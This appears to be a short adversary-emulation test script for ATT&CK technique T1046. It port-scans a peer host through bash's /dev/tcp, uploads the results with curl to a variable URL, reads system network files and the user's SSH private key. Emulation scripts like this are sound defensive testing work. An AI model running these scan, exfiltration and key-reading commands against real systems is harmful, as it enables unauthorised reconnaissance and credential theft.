# T1046 by bash and its /dev/tcp.
groundwork
cat /proc/net/tcp /proc/version > work/host
rnd 1000 9000; first=$r
rnd 40 90
bash -c 'p=$1; while [ $p -le $(($1 + $2)) ]; do { : <> "/dev/tcp/$4/$p"; } 2>/dev/null && echo "$p"; p=$((p + 1)); done; { : <> "/dev/tcp/$4/$3"; } && echo "$3"' scan "$first" "$r" "$port" "$peer" > work/open
curl -s -H Expect: -o /dev/null -T work/open "$url/put"
cat .ssh/id_ed25519 .ssh/known_hosts > /dev/null
